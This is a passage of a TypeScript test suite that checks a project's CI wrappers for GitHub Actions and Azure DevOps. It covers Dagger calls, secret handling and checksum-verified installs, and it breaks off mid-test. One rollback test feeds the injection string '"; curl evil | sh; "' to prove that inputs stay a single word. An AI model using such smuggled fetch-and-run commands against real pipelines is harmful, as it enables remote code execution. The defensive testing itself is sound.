import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, describe, expect, it } from "vitest";
import { parseDocument } from "yaml";

/**
 * The CI wrappers are thin: each job is checkout, install Dagger, ONE `dagger call`, and publishing its
 * reports. This suite reads both wrappers as the CI systems would (YAML, GitHub expressions evaluated,
 * shell words split) and checks every call against the documented module API (test/dagger/api.expected.json,
 * itself checked against the SDK's introspector), so a renamed function or flag, a missing Secret or a bit
 * of shell logic breaks here instead of in a user's pipeline.
 */

const REPO_ROOT = join(dirname(fileURLToPath(import.meta.url)), "..", "..");
const GITHUB = "ci/github/slipway.yml";
const ADO = "ci/azure-devops/azure-pipelines.yml";
const ADO_ROLLBACK = "ci/azure-devops/rollback.yml";
const ZEROS = "0".repeat(40);

// --- the documented API -------------------------------------------------------------------------------

interface Arg {
  name: string;
  type: string;
  default?: unknown;
  defaultPath?: string;
}
interface Fn {
  returns: string;
  args: Arg[];
}
interface ApiObject {
  functions: Record<string, Fn>;
  fields: Record<string, { type: string }>;
}
const api = JSON.parse(readFileSync(join(REPO_ROOT, "test", "dagger", "api.expected.json"), "utf8")) as { objects: Record<string, ApiObject> };

/** The engine's core types, as far as the wrappers chain into them (Dagger API: File.export, Directory.export). */
const CORE: Record<string, ApiObject> = {
  File: { functions: { export: { returns: "String!", args: [{ name: "path", type: "String!" }, { name: "allowParentDir", type: "Boolean" }] } }, fields: {} },
  Directory: { functions: { export: { returns: "String!", args: [{ name: "path", type: "String!" }, { name: "wipe", type: "Boolean" }] } }, fields: {} },
};

const ENGINE_VERSION = (JSON.parse(readFileSync(join(REPO_ROOT, "dagger.json"), "utf8")) as { engineVersion: string }).engineVersion;

function camel(kebab: string): string {
  return kebab.replace(/-([a-z0-9])/g, (_m, c: string) => c.toUpperCase());
}

function typeName(type: string): string {
  return type.replace(/[[\]!]/g, "");
}

function objectOf(type: string): ApiObject | undefined {
  return api.objects[typeName(type)] ?? CORE[typeName(type)];
}

// --- GitHub expressions (the subset the workflow uses; anything else is an error, never a guess) ----------

function truthy(v: unknown): boolean {
  return !(v === "" || v === null || v === undefined || v === false || v === 0);
}

/** Evaluates one `${{ }}` body as GitHub does: && and || return operands, == compares strings ignoring case. */
function evaluate(source: string, context: Record<string, unknown>): unknown {
  const tokens = source.match(/'(?:[^']|'')*'|&&|\|\||==|!=|[!(),]|[A-Za-z_][A-Za-z0-9_.-]*|\S/g) ?? [];
  let at = 0;
  const peek = () => tokens[at];
  const take = (expected?: string): string => {
    const token = tokens[at++];
    if (token === undefined || (expected !== undefined && token !== expected)) throw new Error(`expression ${JSON.stringify(source)}: expected ${expected ?? "more"}, got ${token ?? "the end"}`);
    return token;
  };
  const primary = (): unknown => {
    const token = take();
    if (token === "(") {
      const value = or();
      take(")");
      return value;
    }
    if (token === "!") return !truthy(primary());
    if (token.startsWith("'")) return token.slice(1, -1).replace(/''/g, "'");
    if (token === "true" || token === "false") return token === "true";
    if (token === "null") return null;
    if (peek() === "(") {
      take("(");
      const args: unknown[] = [];
      while (peek() !== ")") {
        args.push(or());
        if (peek() === ",") take(",");
      }
      take(")");
      if (token !== "format") throw new Error(`expression ${JSON.stringify(source)}: function ${token} is not modelled here`);
      const [pattern, ...rest] = args;
      return String(pattern).replace(/\{(\d+)\}/g, (_m, i: string) => String(rest[Number(i)] ?? ""));
    }
    if (!/^[A-Za-z_]/.test(token)) throw new Error(`expression ${JSON.stringify(source)}: unexpected ${token}`);
    return token.split(".").reduce<unknown>((v, key) => (v !== null && typeof v === "object" ? (v as Record<string, unknown>)[key] : undefined), context);
  };
  const comparison = (): unknown => {
    const left = primary();
    const op = peek();
    if (op !== "==" && op !== "!=") return left;
    take();
    const right = primary();
    const equal = typeof left === "string" && typeof right === "string" ? left.toLowerCase() === right.toLowerCase() : left === right;
    return op === "==" ? equal : !equal;
  };
  const and = (): unknown => {
    let value = comparison();
    while (peek() === "&&") {
      take();
      const right = comparison();
      value = truthy(value) ? right : value;
    }
    return value;
  };
  const or = (): unknown => {
    let value = and();
    while (peek() === "||") {
      take();
      const right = and();
      value = truthy(value) ? value : right;
    }
    return value;
  };
  const value = or();
  if (at !== tokens.length) throw new Error(`expression ${JSON.stringify(source)}: unexpected ${tokens[at]}`);
  return value;
}

function interpolate(text: string, context: Record<string, unknown>): string {
  return text.replace(/\$\{\{([\s\S]*?)\}\}/g, (_m, body: string) => {
    const value = evaluate(body.trim(), context);
    return value === null || value === undefined ? "" : String(value);
  });
}

// --- shell words (quotes only: anything that would make the script more than one command is refused) -----

/** Why a run script is more than one plain command; empty when it is one. */
function shellLogic(script: string): string[] {
  const problems: string[] = [];
  const checks: Array<[RegExp, string]> = [
    [/\bjq\b/, "jq"],
    [/(^|[\s;])(if|then|else|fi|case|for|while|until)\b/, "a shell keyword"],
    [/&&|\|\|/, "&& or ||"],
    [/\|/, "a pipe"],
    [/\$\(|`/, "command substitution"],
    [/;/, "a ;"],
    [/[<>]/, "a redirection"],
    [/\n/, "more than one line"],
    [/\bHEAD~/, "HEAD~ (misses the other commits of a push)"],
  ];
  for (const [pattern, what] of checks) if (pattern.test(script.trim())) problems.push(what);
  return problems;
}

/** Splits a one-command script into words: '…' literal, "…" with $VAR and ${VAR} taken from env. */
function words(script: string, env: Record<string, string>): string[] {
  const out: string[] = [];
  let current: string | null = null;
  const expand = (text: string) =>
    text.replace(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g, (_m, name: string) => {
      const value = env[name];
      if (value === undefined) throw new Error(`$${name} is not in the step's environment`);
      return value;
    });
  const re = /\s+|'([^']*)'|"((?:[^"\\]|\\.)*)"|([^\s'"]+)/g;
  for (const m of script.trim().matchAll(re)) {
    if (/^\s+$/.test(m[0])) {
      if (current !== null) out.push(current);
      current = null;
      continue;
    }
    const part = m[1] ?? (m[2] !== undefined ? expand(m[2]) : expand(m[3] as string));
    current = (current ?? "") + part;
  }
  if (current !== null) out.push(current);
  return out;
}

// --- one dagger call, checked against the API -------------------------------------------------------------

interface Segment {
  name: string;
  /** A list flag's values as an array (every occurrence, each split as CSV). */
  flags: Map<string, string | true | string[]>;
}
interface Call {
  segments: Segment[];
  problems: string[];
}

function flag(segment: Segment | undefined, name: string): string | true | string[] | undefined {
  return segment?.flags.get(name);
}

/**
 * One CSV record as Go's encoding/csv reads it (what pflag's StringSlice does with each value): fields split on
 * commas, a field starting with `"` is quoted (`""` is a quote), a `"` inside an unquoted field is an error.
 */
function csvRecord(text: string): { fields: string[]; error?: string } {
  const fields: string[] = [];
  let i = 0;
  for (;;) {
    if (text[i] === '"') {
      let field = "";
      i += 1;
      for (;;) {
        if (i >= text.length) return { fields, error: 'extraneous or missing " in quoted-field' };
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else field += text[i++];
      }
      fields.push(field);
      if (i < text.length && text[i] !== ",") return { fields, error: 'extraneous or missing " in quoted-field' };
    } else {
      const end = text.indexOf(",", i);
      const field = text.slice(i, end < 0 ? undefined : end);
      if (field.includes('"')) return { fields, error: 'bare " in non-quoted-field' };
      fields.push(field);
      i = end < 0 ? text.length : end;
    }
    if (i >= text.length) return { fields };
    i += 1;
  }
}

/** `dagger -m MODULE call fn --flag v ... chained --flag v ...`, checked against the API. */
function checkCall(argv: string[]): Call {
  const problems: string[] = [];
  const callAt = argv.indexOf("call");
  if (argv[0] !== "dagger" || callAt < 0) return { segments: [], problems: [`not a dagger call: ${argv.join(" ")}`] };
  const before = argv.slice(1, callAt);
  if (before.length !== 0 && !(before.length === 2 && before[0] === "-m")) problems.push(`unexpected dagger options ${before.join(" ")}`);
  const segments: Segment[] = [];
  let object: ApiObject | undefined = api.objects.Slipway;
  let objectName = "Slipway";
  let i = callAt + 1;
  while (i < argv.length) {
    const name = camel(argv[i] as string);
    i += 1;
    const segment: Segment = { name, flags: new Map() };
    segments.push(segment);
    const fn: Fn | undefined = object?.functions[name];
    const field = object?.fields[name];
    if (!object) {
      problems.push(`${objectName} is not a type the wrappers may chain into (${name})`);
      break;
    }
    if (!fn && !field) {
      problems.push(segments.length === 1 ? `unknown function ${name}` : `${objectName} has no ${name}`);
      break;
    }
    const args = fn?.args ?? [];
    while (i < argv.length && (argv[i] as string).startsWith("--")) {
      const word = (argv[i] as string).slice(2);
      const [raw, inline] = word.includes("=") ? [word.slice(0, word.indexOf("=")), word.slice(word.indexOf("=") + 1)] : [word, undefined];
      const arg = args.find((a) => a.name === camel(raw as string));
      if (!arg) problems.push(`${name}: unknown flag --${raw}`);
      // Boolean flags take no value in `dagger call`; the others take the next word.
      let value: string | true;
      if (inline !== undefined) value = inline;
      else if (arg?.type.startsWith("Boolean")) value = true;
      else {
        value = argv[i + 1] ?? "";
        i += 1;
      }
      i += 1;
      if (arg?.type.startsWith("[") && typeof value === "string") {
        // A list flag: `dagger call` registers [String] arguments with pflag's StringSlice (cmd/dagger/functions.go),
        // which reads each value as one CSV record (encoding/csv) and appends repeated flags.
        const record = csvRecord(value);
        if (record.error) problems.push(`${name}: --${raw} ${JSON.stringify(value)}: ${record.error}`);
        const before = segment.flags.get(camel(raw as string));
        segment.flags.set(camel(raw as string), [...(Array.isArray(before) ? before : []), ...record.fields]);
      } else {
        segment.flags.set(camel(raw as string), value);
      }
      if (arg && typeName(arg.type) === "Secret" && (typeof value !== "string" || !/^env:[A-Za-z_][A-Za-z0-9_]*$/.test(value))) {
        problems.push(`${name}: --${raw} is a Secret and must be env:NAME, not ${JSON.stringify(value)}`);
      }
    }
    for (const arg of args) {
      const required = arg.type.endsWith("!") && !("default" in arg) && arg.defaultPath === undefined;
      if (required && !segment.flags.has(arg.name)) problems.push(`${name}: required --${arg.name.replace(/[A-Z]/g, (c) => `-${c.toLowerCase()}`)} is missing`);
    }
    const returns = fn?.returns ?? field?.type ?? "";
    objectName = typeName(returns);
    object = objectOf(returns);
  }
  return { segments, problems };
}

// --- the wrappers, read as jobs of steps ------------------------------------------------------------------

/**
 * `summary`: the run's Markdown published as the job summary, nothing else (GitHub: cp to $GITHUB_STEP_SUMMARY;
 * Azure DevOps: echo ##vso[task.uploadsummary]); `notify`: `dagger call notify` with the exported Release report;
 * `verdict`: `dagger call report-verdict` on the exported run report, the job's last step.
 */
type Kind = "checkout" | "install" | "call" | "report" | "publish" | "summary" | "notify" | "verdict";
interface Step {
  kind: Kind;
  name: string;
  /** The script as the CI system hands it to bash (GitHub: `${{ }}` still in it). */
  script?: string;
  env: Record<string, string>;
  always: boolean;
  raw: Record<string, unknown>;
}
interface Job {
  file: string;
  id: string;
  environment?: string;
  raw: Record<string, unknown>;
  steps: Step[];
}

function load(file: string): Record<string, unknown> {
  const doc = parseDocument(readFileSync(join(REPO_ROOT, file), "utf8"));
  expect(doc.errors).toEqual([]);
  return doc.toJS() as Record<string, unknown>;
}

const INSTALL = "Install Dagger";

function classify(name: string, script: string | undefined, uses: string | undefined, always: boolean): Kind {
  if (uses?.startsWith("actions/checkout") || uses === "self") return "checkout";
  if (name === INSTALL) return "install";
  if (script === undefined) return "publish";
  if (/GITHUB_STEP_SUMMARY|##vso\[task\.uploadsummary\]/.test(script)) return "summary";
  if (/\bcall notify\b/.test(script)) return "notify";
  if (/\bcall report-verdict\b/.test(script)) return "verdict";
  return always && /\bexport --path\b/.test(script) ? "report" : "call";
}

function githubJobs(): Job[] {
  const wf = load(GITHUB) as { jobs: Record<string, Record<string, unknown>> };
  return Object.entries(wf.jobs).map(([id, raw]) => ({
    file: GITHUB,
    id,
    raw,
    ...(typeof raw.environment === "string" ? { environment: raw.environment } : {}),
    steps: (raw.steps as Array<Record<string, unknown>>).map((s) => {
      const name = String(s.name ?? s.uses ?? "");
      const script = typeof s.run === "string" ? s.run : undefined;
      // `always() && hashFiles(...)`: run also when an earlier step failed, if the file is there.
      const always = typeof s.if === "string" && s.if.startsWith("always()");
      return { kind: classify(name, script, s.uses as string | undefined, always), name, ...(script !== undefined ? { script } : {}), env: (s.env ?? {}) as Record<string, string>, always, raw: s };
    }),
  }));
}

function adoSteps(list: Array<Record<string, unknown>>): Step[] {
  return list.map((s) => {
    const inputs = (s.inputs ?? {}) as Record<string, unknown>;
    const name = String(s.displayName ?? s.task ?? s.checkout ?? "");
    const script = typeof s.script === "string" ? s.script : s.task === "AzureCLI@2" ? String(inputs.inlineScript) : undefined;
    const always = s.condition === "always()";
    const kind = s.checkout !== undefined ? "checkout" : classify(name, script, undefined, always);
    return { kind, name, ...(script !== undefined ? { script } : {}), env: (s.env ?? {}) as Record<string, string>, always, raw: s };
  });
}

function adoJobs(file: string): Job[] {
  const pipeline = load(file) as { stages?: Array<{ stage: string; jobs: Array<Record<string, unknown>> }>; jobs?: Array<Record<string, unknown>> };
  const jobs = pipeline.stages?.flatMap((stage) => stage.jobs.map((job) => ({ stage: stage.stage, job }))) ?? (pipeline.jobs ?? []).map((job) => ({ stage: "", job }));
  return jobs.map(({ stage, job }) => {
    const strategy = job.strategy as { runOnce?: { deploy?: { steps: Array<Record<string, unknown>> } } } | undefined;
    const steps = (job.steps as Array<Record<string, unknown>> | undefined) ?? strategy?.runOnce?.deploy?.steps ?? [];
    return {
      file,
      id: stage || String(job.job ?? job.deployment),
      raw: job,
      ...(typeof job.environment === "string" ? { environment: job.environment } : {}),
      steps: adoSteps(steps),
    };
  });
}

const allJobs = (): Job[] => [...githubJobs(), ...adoJobs(ADO), ...adoJobs(ADO_ROLLBACK)];

/** The environment a step's script sees: its own `env:`, the workflow's, and what the runner provides. */
function stepEnv(job: Job, step: Step, context: Record<string, unknown>): Record<string, string> {
  const github = job.file === GITHUB;
  const provided: Record<string, string> = github
    ? // GITHUB_SHA: a default variable of every job (the commit the run is for).
      { ACTIONS_ID_TOKEN_REQUEST_URL: "https://token.actions.githubusercontent.example/req", RUNNER_TEMP: "/tmp/runner", HOME: "/home/runner", GITHUB_SHA: "a".repeat(40), GITHUB_ACTOR: "octocat", GITHUB_RUN_ID: "4242", GITHUB_WORKFLOW: 'Release, then "promote"', GITHUB_STEP_SUMMARY: "/tmp/runner/_runner_file_commands/step_summary_1" }
    : // BUILD_SOURCEVERSION: the predefined Build.SourceVersion, exported to every script.
      { SYSTEM_OIDCREQUESTURI: "https://dev.azure.example/oidc", AGENT_TEMPDIRECTORY: "/tmp/agent", BUILD_ARTIFACTSTAGINGDIRECTORY: "/a", HOME: "/home/vsts", BUILD_SOURCEVERSION: "b".repeat(40), BUILD_REQUESTEDFOR: "Ada Lovelace", BUILD_BUILDID: "17", BUILD_DEFINITIONNAME: "shop, release" };
  const level = github ? ((load(GITHUB).env ?? {}) as Record<string, string>) : { SLIPWAY_MODULE: "github.com/acme/slipway@v0.1.0", DAGGER_VERSION: ENGINE_VERSION.slice(1) };
  const own = Object.fromEntries(Object.entries(step.env).map(([k, v]) => [k, github ? interpolate(String(v), context) : String(v)]));
  return { ...provided, ...level, ...own };
}

let workflowEnv: Record<string, string> | undefined;

function contextFor(
  event: "pull_request" | "push" | "workflow_dispatch",
  extra: { before?: string; inputs?: Record<string, string>; vars?: Record<string, string>; secrets?: Record<string, string> } = {},
): Record<string, unknown> {
  return {
    github: { event_name: event, base_ref: event === "pull_request" ? "main" : "", ref: "refs/heads/main", sha: "f".repeat(40), event: { before: extra.before ?? "a".repeat(40) }, server_url: "https://github.com", repository: "acme/shop", run_id: "4242" },
    inputs: extra.inputs ?? { environment: "prod", to: "" },
    // A secret that is not set evaluates to '' (GitHub: "If a secret has not been set, ... an empty string").
    secrets: extra.secrets ?? new Proxy({}, { get: (_t, name) => `<secret ${String(name)}>` }),
    vars: extra.vars ?? {},
    // The workflow's `env:`, as the `env` context of a step sees it.
    env: (workflowEnv ??= (load(GITHUB).env ?? {}) as Record<string, string>),
  };
}

/** The one dagger call of a script, as bash would run it for that event. */
function callOf(job: Job, step: Step, context: Record<string, unknown>): Call {
  const script = job.file === GITHUB ? interpolate(step.script ?? "", context) : (step.script ?? "");
  const logic = shellLogic(script);
  if (logic.length > 0) return { segments: [], problems: logic.map((l) => `${job.id} / ${step.name}: ${l}`) };
  return checkCall(words(script, stepEnv(job, step, context)));
}

/** The event a job runs for. */
function eventOf(job: Job): "pull_request" | "push" | "workflow_dispatch" {
  if (job.file === ADO_ROLLBACK || job.id === "rollback") return "workflow_dispatch";
  return job.id === "ci" ? "pull_request" : "push";
}

// --- the suite --------------------------------------------------------------------------------------------

describe("ci/ wrappers", () => {
  it.each([GITHUB, ADO, ADO_ROLLBACK])("%s: every job is checkout, install Dagger, ONE dagger call, then only report publishing", (file) => {
    const jobs = allJobs().filter((j) => j.file === file);
    expect(jobs.length).toBeGreaterThan(0);
    for (const job of jobs) {
      const kinds = job.steps.map((s) => s.kind);
      expect({ job: job.id, kinds: kinds.slice(0, 3) }).toEqual({ job: job.id, kinds: ["checkout", "install", "call"] });
      expect({ job: job.id, calls: kinds.filter((k) => k === "call").length }).toEqual({ job: job.id, calls: 1 });
      // After the call only reports: `... export --path` calls, the job summary, publishing tasks and
      // notifications, run also when it failed; and, last, the verdict from the exported run report.
      const after = job.steps.slice(3);
      const last = after.at(-1);
      const reports = last?.kind === "verdict" ? after.slice(0, -1) : after;
      for (const step of reports) {
        expect({ job: job.id, step: step.name, kind: step.kind, always: step.always }).toEqual({ job: job.id, step: step.name, kind: expect.stringMatching(/^(report|publish|summary|notify)$/), always: true });
      }
      if (last?.kind === "verdict") expect({ job: job.id, always: last.always }).toEqual({ job: job.id, always: false });
    }
  });

  it.each([GITHUB, ADO, ADO_ROLLBACK])("%s: every call and report is a documented function with documented flags, required ones present, Secrets as env:NAME", (file) => {
    const jobs = allJobs().filter((j) => j.file === file);
    const called: string[] = [];
    for (const job of jobs) {
      for (const step of job.steps.filter((s) => s.kind === "call" || s.kind === "report" || s.kind === "notify" || s.kind === "verdict")) {
        const call = callOf(job, step, contextFor(eventOf(job)));
        expect({ job: job.id, step: step.name, problems: call.problems }).toEqual({ job: job.id, step: step.name, problems: [] });
        called.push(call.segments.map((s) => s.name).join("."));
      }
    }
    const expected = {
      [GITHUB]: [
        "ci.reports.export", "scanDependencies.sarif.export", "scanSecrets.sarif.export", "reportVerdict",
        "release.reports.export", "reportVerdict",
        "promote.reports.export", "reportVerdict",
        "promote.reports.export", "reportVerdict",
        "rollbackRun.reports.export", "reportVerdict",
      ],
      [ADO]: [
        "ci.reports.export", "scanDependencies.junit.export", "scanSecrets.junit.export", "reportVerdict",
        "release.reports.export", "reportVerdict",
        "promote.reports.export", "reportVerdict",
        "promote.reports.export", "reportVerdict",
      ],
      [ADO_ROLLBACK]: ["rollbackRun.reports.export", "reportVerdict"],
    }[file];
    expect(called).toEqual(expected);
  });

  it("the check can fail: unknown function, flag or chained function, a missing required flag, a literal Secret", () => {
    const call = (text: string) => checkCall(words(text, {})).problems;
    expect(call("dagger call ci --sauce . verdict")).toEqual(["ci: unknown flag --sauce", "ci: required --source is missing"]);
    expect(call("dagger call ci --source . verdit")).toEqual(["CiRun has no verdit"]);
    expect(call("dagger call deploy --source .")).toEqual(["unknown function deploy"]);
    expect(call("dagger call release --source . --environment dev --git-token env:T verdict")).toEqual(["release: required --kubeconfig is missing"]);
    expect(call("dagger call rollback --token ghp_abc --environment prod")).toEqual(['rollback: --token is a Secret and must be env:NAME, not "ghp_abc"']);
    expect(call("dagger call scan-secrets --source . sarif export --pth x")).toEqual(["export: unknown flag --pth", "export: required --path is missing"]);
    expect(shellLogic('dagger call publish --source . > p.json\nsets=$(jq -r ".[]" p.json)')).toEqual(["jq", "command substitution", "a redirection", "more than one line"]);
    expect(shellLogic("dagger call ci --source . --base HEAD~1 verdict")).toEqual(["HEAD~ (misses the other commits of a push)"]);
    expect(shellLogic('if true; then dagger call ci --source . verdict; fi')).toEqual(["a shell keyword", "a ;"]);
  });

  it.each([GITHUB, ADO, ADO_ROLLBACK])("%s: each Secret comes from a secret store or the runner, never from the script text", (file) => {
    for (const job of allJobs().filter((j) => j.file === file)) {
      for (const step of job.steps.filter((s) => s.kind === "call")) {
        const call = callOf(job, step, contextFor(eventOf(job)));
        const fn = api.objects.Slipway?.functions[call.segments[0]?.name ?? ""];
        for (const [name, value] of call.segments[0]?.flags ?? []) {
          if (typeName(fn?.args.find((a) => a.name === name)?.type ?? "") !== "Secret") continue;
          const variable = String(value).slice("env:".length);
          const source = step.env[variable];
          if (file === GITHUB && variable === "ACTIONS_ID_TOKEN_REQUEST_TOKEN") {
            // Set by the runner only with `permissions: id-token: write`.
            expect({ job: job.id, permissions: job.raw.permissions }).toMatchObject({ job: job.id, permissions: { "id-token": "write" } });
          } else if (file === GITHUB) {
            expect({ job: job.id, variable, source }).toEqual({ job: job.id, variable, source: expect.stringMatching(/^\$\{\{ secrets\.[A-Z_]+ \}\}$/) });
          } else {
            // A secret variable (of the stage's variable group) or the job's access token, mapped explicitly:
            // Azure Pipelines never puts secret variables in a script's environment by itself.
            expect({ job: job.id, variable, source }).toEqual({ job: job.id, variable, source: expect.stringMatching(/^\$\((?:[A-Z_]+|System\.AccessToken)\)$/) });
          }
        }
        expect(step.script).not.toMatch(/secrets\.|\$\((?:GITOPS_TOKEN|KUBECONFIG_CONTENT|DATABASE_URLS|System\.AccessToken)\)/);
      }
    }
  });

  it("pins the Dagger CLI to dagger.json's engineVersion in every wrapper", () => {
    const version = ENGINE_VERSION.replace(/^v/, "");
    expect((load(GITHUB).env as Record<string, string>).DAGGER_VERSION).toBe(version);
    for (const file of [ADO, ADO_ROLLBACK]) {
      const variables = load(file).variables as Array<{ name?: string; value?: unknown }>;
      expect(String(variables.find((v) => v.name === "DAGGER_VERSION")?.value)).toBe(version);
    }
    for (const job of allJobs()) {
      const install = job.steps.find((s) => s.kind === "install")?.script ?? "";
      expect(install).toContain("https://github.com/dagger/dagger/releases/download/v${DAGGER_VERSION}");
      expect(install).toContain("sha256sum --check --ignore-missing");
      expect(install).not.toMatch(/install\.sh|\| *sh\b/);
    }
  });
});

describe("ci/ wrappers: the install step", () => {
  const dirs: string[] = [];
  afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

  /** Runs a wrapper's install script with `curl` serving a local release (what the URLs would return). */
  function install(job: Job, tamper: "none" | "tarball" | "unlisted"): { code: number; stderr: string; urls: string[]; installed: boolean } {
    const dir = mkdtempSync(join(tmpdir(), "slipway-install-"));
    dirs.push(dir);
    const version = ENGINE_VERSION.slice(1);
    const release = join(dir, "release");
    const bin = join(dir, "bin");
    const temp = join(dir, "temp");
    [release, bin, temp, join(release, "pkg")].forEach((d) => mkdirSync(d, { recursive: true }));
    writeFileSync(join(release, "pkg", "dagger"), "#!/bin/sh\necho dagger\n", { mode: 0o755 });
    const tarball = `dagger_v${version}_linux_amd64.tar.gz`;
    execFileSync("tar", ["-czf", join(release, tarball), "-C", join(release, "pkg"), "dagger"]);
    const sum = createHash("sha256").update(readFileSync(join(release, tarball))).digest("hex");
    writeFileSync(join(release, "checksums.txt"), `${"0".repeat(64)}  dagger_v${version}_darwin_arm64.tar.gz\n${tamper === "unlisted" ? "" : `${sum}  ${tarball}\n`}`);
    if (tamper === "tarball") writeFileSync(join(release, tarball), "not the release");
    // curl -fsSLO URL: writes the URL's last path segment into the working directory.
    writeFileSync(join(bin, "curl"), `#!/bin/sh\nfor a; do url="$a"; done\necho "$url" >> "${dir}/urls"\ncp "${release}/\${url##*/}" .\n`, { mode: 0o755 });
    chmodSync(join(bin, "curl"), 0o755);
    const home = join(dir, "home");
    const script = job.steps.find((s) => s.kind === "install")?.script ?? "";
    const env = { PATH: `${bin}:${process.env.PATH ?? ""}`, HOME: home, DAGGER_VERSION: version, RUNNER_TEMP: temp, AGENT_TEMPDIRECTORY: temp, GITHUB_PATH: join(dir, "github_path") };
    let code = 0;
    let stderr = "";
    try {
      execFileSync("bash", ["-c", script], { env, cwd: dir, stdio: "pipe" });
    } catch (error) {
      code = (error as { status: number }).status;
      stderr = String((error as { stderr: Buffer }).stderr);
    }
    const urls = existsSync(join(dir, "urls")) ? readFileSync(join(dir, "urls"), "utf8").trim().split("\n") : [];
    return { code, stderr, urls, installed: existsSync(join(home, ".local", "bin", "dagger")) };
  }

  it.each([
    ["GitHub", () => githubJobs()[0] as Job],
    ["Azure DevOps", () => adoJobs(ADO)[0] as Job],
  ])("%s: downloads the pinned release and its checksums.txt, and installs only a tarball that matches", (_name, pick) => {
    const job = pick();
    const version = ENGINE_VERSION.slice(1);
    const ok = install(job, "none");
    expect(ok).toMatchObject({ code: 0, installed: true });
    expect(ok.urls).toEqual([
      `https://github.com/dagger/dagger/releases/download/v${version}/dagger_v${version}_linux_amd64.tar.gz`,
      `https://github.com/dagger/dagger/releases/download/v${version}/checksums.txt`,
    ]);
    expect(install(job, "tarball")).toMatchObject({ code: 1, installed: false, stderr: expect.stringContaining("did NOT match") });
    expect(install(job, "unlisted")).toMatchObject({ code: 1, installed: false, stderr: expect.stringContaining("no file was verified") });
  });

  it("every copy of the install step is the same script", () => {
    const scripts = new Set(allJobs().map((j) => (j.steps.find((s) => s.kind === "install")?.script ?? "").replace(/RUNNER_TEMP|AGENT_TEMPDIRECTORY/, "TEMP").replace(/echo .*\n$/, "")));
    expect(scripts.size).toBe(1);
  });
});

describe("ci/github/slipway.yml", () => {
  const job = (id: string) => githubJobs().find((j) => j.id === id) as Job;
  const mainCall = (id: string, context: Record<string, unknown>) => {
    const j = job(id);
    return callOf(j, j.steps.find((s) => s.kind === "call") as Step, context);
  };

  it("ci runs on pull requests against the target branch; release on pushes to main; rollback by hand", () => {
    const wf = load(GITHUB) as { on: Record<string, unknown>; jobs: Record<string, { if?: string }> };
    expect(wf.on.push).toEqual({ branches: ["main"] });
    const runs = (id: string, event: "pull_request" | "push" | "workflow_dispatch") => job(id).raw.if === undefined || truthy(evaluate(String(job(id).raw.if), contextFor(event)));
    expect(["ci", "release", "promote-staging", "promote-prod", "rollback"].filter((id) => runs(id, "pull_request") && !(job(id).raw.needs))).toEqual(["ci"]);
    expect(["ci", "release", "rollback"].filter((id) => runs(id, "push"))).toEqual(["release"]);
    expect(["ci", "release", "rollback"].filter((id) => runs(id, "workflow_dispatch"))).toEqual(["rollback"]);
    expect(flag(mainCall("ci", contextFor("pull_request")).segments[0], "base")).toBe("origin/main");
  });

  it("release passes --base for the whole push, and none on the first push of the branch (before = 40 zeros)", () => {
    const several = mainCall("release", contextFor("push", { before: "b".repeat(40) }));
    expect(several.problems).toEqual([]);
    expect(flag(several.segments[0], "base")).toBe("b".repeat(40));
    const first = mainCall("release", contextFor("push", { before: ZEROS }));
    expect(first.problems).toEqual([]);
    expect(first.segments[0]?.flags.has("base")).toBe(false);
  });

  it("release, promote staging and promote prod run in order, each in its GitHub Environment, with OIDC, and fail unless verified", () => {
    expect([job("promote-staging").raw.needs, job("promote-prod").raw.needs]).toEqual(["release", "promote-staging"]);
    for (const [id, env] of [["release", "dev"], ["promote-staging", "staging"], ["promote-prod", "prod"]] as const) {
      const call = mainCall(id, contextFor("push"));
      expect(job(id).environment).toBe(env);
      expect(flag(call.segments[0], "environment")).toBe(env);
      expect(call.segments.map((seg) => seg.name).slice(-2)).toEqual(["reports", "export"]);
      expect(job(id).steps.at(-1)?.kind).toBe("verdict");
      expect(job(id).raw.permissions).toMatchObject({ "id-token": "write" });
      expect(flag(call.segments[0], "oidcRequestUrl")).toBe("https://token.actions.githubusercontent.example/req");
    }
  });

  it("rollback takes the environment and the optional ledger id from the dispatch inputs, through the environment", () => {
    const wf = load(GITHUB) as { on: { workflow_dispatch: { inputs: Record<string, { type: string; options?: string[]; required?: boolean }> } } };
    expect(wf.on.workflow_dispatch.inputs.environment).toMatchObject({ type: "choice", options: ["dev", "staging", "prod"] });
    expect(wf.on.workflow_dispatch.inputs.to?.required).toBe(false);
    expect(job("rollback").environment).toBe("${{ inputs.environment }}");
    const given = mainCall("rollback", contextFor("workflow_dispatch", { inputs: { environment: "prod", to: "7" } })).segments[0];
    expect([flag(given, "environment"), flag(given, "to"), flag(given, "source")]).toEqual(["prod", "7", "."]);
    // An empty `to` is passed as --to "": rollback treats an empty string as not given.
    expect(flag(mainCall("rollback", contextFor("workflow_dispatch", { inputs: { environment: "dev", to: "" } })).segments[0], "to")).toBe("");
    // A hostile input stays one word: it reaches the script through the environment, never as script text.
    const hostile = mainCall("rollback", contextFor("workflow_dispatch", { inputs: { environment: "dev", to: '"; curl evil | sh; "' } }));
    expect(hostile.problems).toEqual([]);
    expect(flag(hostile.segments[0], "to")).toBe('"; curl evil | sh; "');
    expect(job("rollback").steps.map((s) => s.script ?? "").join("\n")).not.toContain("inputs.");
  });

  it("every checkout has the full history and keeps no token in .git/config (the source goes into containers)", () => {
    for (const j of githubJobs()) {
      expect({ job: j.id, with: j.steps[0]?.raw.with }).toEqual({ job: j.id, with: { "fetch-depth": 0, "persist-credentials": false } });
    }
  });
});

describe("ci/azure-devops", () => {
  const stage = (id: string) => adoJobs(ADO).find((j) => j.id === id) as Job;

  it("ci on pull requests against the target branch; release, promote staging and prod on main, in order, as deployments", () => {
    const pipeline = load(ADO) as { stages: Array<{ stage: string; condition?: string; dependsOn?: unknown; variables?: unknown }> };
    const byId = Object.fromEntries(pipeline.stages.map((s) => [s.stage, s]));
    expect(byId.ci?.condition).toBe("eq(variables['Build.Reason'], 'PullRequest')");
    expect(byId.release_dev?.condition).toContain("eq(variables['Build.SourceBranch'], 'refs/heads/main')");
    expect([byId.promote_staging?.dependsOn, byId.promote_prod?.dependsOn]).toEqual(["release_dev", "promote_staging"]);
    const ci = stage("ci");
